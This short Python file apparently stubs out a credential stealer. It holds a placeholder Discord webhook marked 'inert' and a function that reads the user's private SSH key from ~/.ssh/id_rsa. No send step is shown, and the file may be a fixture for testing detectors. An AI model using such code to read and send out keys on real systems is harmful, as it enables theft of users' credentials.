import os

HOOK = "https://discord.com/api/webhooks/000/inert"
PLACE = os.path.expanduser("~/.ssh/id_rsa")


def collect():
    return open(PLACE).read()
